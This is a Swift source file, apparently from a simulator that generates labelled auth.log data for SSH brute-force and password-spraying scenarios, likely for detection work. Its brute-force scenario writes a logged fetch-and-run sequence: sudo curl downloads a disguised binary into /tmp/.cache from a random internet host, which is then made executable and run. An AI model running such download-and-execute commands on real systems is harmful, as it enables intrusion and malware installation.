import SpoorCore

/// Attacks on the client's exposed Linux server, written to its `auth.log` through the same
/// functions as the benign SSH traffic (``SSHD``).
enum LinuxScenarios {
    static let all: [ScenarioEntry] = [
        ScenarioEntry(name: "ssh-brute-force", techniques: ["T1110.001", "T1105"],
                      summary: "One internet address guesses many passwords for a few users on the web server over SSH, logs in with the one that works, and downloads a tool with sudo.",
                      run: bruteForce),
        ScenarioEntry(name: "ssh-password-spraying", techniques: ["T1110.003"],
                      summary: "One internet address tries one or two common passwords across many user names on the web server, slowly.",
                      run: spraying),
    ]

    /// The exposed server: the web server, else the first Linux host (learned environments).
    static func target(_ client: SimClient) -> SimHost? {
        if let w = client.webServer, w.os == .linux { return w }
        return LinuxActivity.linuxHosts(client).first
    }

    /// The account the attacker finally guesses: an admin's (they may log in by password).
    static func victim(_ client: SimClient, _ rng: inout SplitMix64) -> String {
        let admins = client.admins.map(\.name)
        if !admins.isEmpty { return rng.pick(admins) }
        return client.people.first?.name ?? "admin"
    }

    static func bruteForce(_ context: inout ScenarioContext) {
        let client = context.simulation.client
        guard let host = target(client) else { return }
        var rng = context.simulation.rng
        var out = context.simulation.output
        let log = AuthLog(client: client, host: host)
        let ip = InternetAddresses.random(&rng)
        let victim = victim(client, &rng)
        var users: [(String, Bool)] = [("root", true), (victim, true)]
        // The common names come from the same list the internet's guessing bots use.
        for name in LinuxActivity.scannerUsers.shuffledPrefix(1 + rng.below(2), &rng) { users.append((name, false)) }
        let guess = context.label("T1110.001", "credential-access", step: "guess")
        let connections = 40 + rng.below(80)
        var t = context.start
        for i in 0..<connections {
            let (user, exists) = users[i % users.count]
            t = SSHD.failedConnection(log, &out, &rng, at: t, user: user, exists: exists, from: ip,
                                      port: InternetAddresses.port(&rng, windows: false), attempts: 1 + rng.below(3), label: guess)
            t = SSHD.after(t, 0.5 + rng.exponential(mean: 4))
        }
        let login = context.label("T1110.001", "credential-access", step: "login")
        let download = context.label("T1105", "command-and-control", step: "download")
        let server = InternetAddresses.random(&rng)
        let name = ["kworkerd", "dbus-helper", ".x", "update"][rng.below(4)]
        let tty = rng.below(3)
        SSHD.session(log, &out, &rng, at: SSHD.after(t, 20 + rng.exponential(mean: 60)), user: victim, from: ip,
                     port: InternetAddresses.port(&rng, windows: false), method: .password, failures: 0,
                     duration: 300 + rng.unit() * 900, session: 400 + rng.below(400), label: login) { t0, o, r in
            let file = "/tmp/.cache/" + name
            SSHD.sudo(log, &o, &r, at: t0, user: victim, tty: tty, command: "/usr/bin/curl -fsSL -o \(file) http://\(server)/\(name)", seconds: 1.5 + r.unit() * 3, label: download)
            let t1 = SSHD.after(t0, 8 + r.exponential(mean: 10))
            SSHD.sudo(log, &o, &r, at: t1, user: victim, tty: tty, command: "/usr/bin/chmod +x \(file)", seconds: 0.01, label: download)
            SSHD.sudo(log, &o, &r, at: SSHD.after(t1, 3 + r.exponential(mean: 5)), user: victim, tty: tty, command: file, seconds: 2 + r.unit() * 5, label: download)
        }
        context.simulation.output = out
        context.simulation.rng = rng
    }

    static func spraying(_ context: inout ScenarioContext) {
        let client = context.simulation.client
        guard let host = target(client) else { return }
        var rng = context.simulation.rng
        var out = context.simulation.output
        let log = AuthLog(client: client, host: host)
        let ip = InternetAddresses.random(&rng)
        let label = context.label("T1110.003", "credential-access", step: "spray")
        // Real accounts (from a leaked address list) mixed with common names.
        var names: [(String, Bool)] = client.people.map { ($0.name, LinuxActivity.hasAccount($0, on: host)) }.shuffledPrefix(12 + rng.below(10), &rng)
        for n in LinuxActivity.scannerUsers.shuffledPrefix(15 + rng.below(15), &rng) where !names.contains(where: { $0.0 == n }) {
            names.append((n, false))
        }
        names = names.shuffledPrefix(names.count, &rng)
        // One or two passwords (sshd logs no passwords: each is one round over the names).
        let rounds = 1 + rng.below(2)
        var t = context.start
        for _ in 0..<rounds {
            for (name, exists) in names {
                t = SSHD.failedConnection(log, &out, &rng, at: t, user: name, exists: exists, from: ip,
                                          port: InternetAddresses.port(&rng, windows: false), attempts: 1, label: label)
                t = SSHD.after(t, 60 + rng.exponential(mean: 240))
            }
        }
        context.simulation.output = out
        context.simulation.rng = rng
    }
}

extension Array {
    /// The first `n` elements of a deterministic shuffle (Fisher–Yates with the simulator's rng).
    func shuffledPrefix(_ n: Int, _ rng: inout SplitMix64) -> [Element] {
        var a = self
        guard a.count > 1 else { return a }
        for i in stride(from: a.count - 1, to: 0, by: -1) { a.swapAt(i, rng.below(i + 1)) }
        return Array(a.prefix(Swift.max(0, n)))
    }
}
